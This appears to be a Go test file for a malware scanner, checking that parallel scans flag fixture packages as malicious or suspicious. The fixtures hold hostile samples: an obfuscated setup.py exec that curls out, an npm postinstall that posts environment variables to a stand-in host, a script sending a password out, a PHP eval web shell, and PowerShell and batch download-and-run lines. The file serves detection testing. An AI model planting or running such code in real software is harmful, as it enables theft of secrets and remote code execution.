package scanning_test

import (
	"context"
	"sync"
	"testing"
	"testing/fstest"

	"taisei/detect"
)

// TestScansBesideEachOther runs scans at the same time, under the race detector when
// script/test does: what they share (tables, rules, patterns) is made once and then
// only read.
func TestScansBesideEachOther(t *testing.T) {
	artifacts := map[string]fstest.MapFS{
		"python": {"setup.py": {Data: []byte("import base64, os\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8vMjAzLjAuMTEzLjkvJyk='))\nfrom setuptools import setup\nsetup(name='example')\n")}, "PKG-INFO": {Data: []byte("Name: example")}},
		"npm":    {"package.json": {Data: []byte(`{"scripts":{"postinstall":"node i.js"}}`)}, "i.js": {Data: []byte("fetch('https://c.example/',{method:'POST',body:JSON.stringify(process.env)})")}},
		"shell":  {"install.sh": {Data: []byte("password=$(gen)\ncurl -d \"p=$password\" https://c.example/\n")}},
		"page":   {"a.php": {Data: []byte("<?php @eval($_POST['c']);")}, "i.ps1": {Data: []byte("iex (irm http://203.0.113.9/x)\n")}, "i.bat": {Data: []byte("@curl -o u.exe http://203.0.113.9/u.exe\r\n@u.exe\r\n")}},
	}
	var all sync.WaitGroup
	for range 2 {
		for name, files := range artifacts {
			all.Go(func() {
				r := detect.Scan(context.Background(), detect.Artifact{Name: name, Folder: files}, detect.DefaultLimits)
				if r.Verdict != detect.Malicious && r.Verdict != detect.Suspicious {
					t.Errorf("%s: %s", name, r.Verdict)
				}
			})
		}
	}
	all.Wait()
}
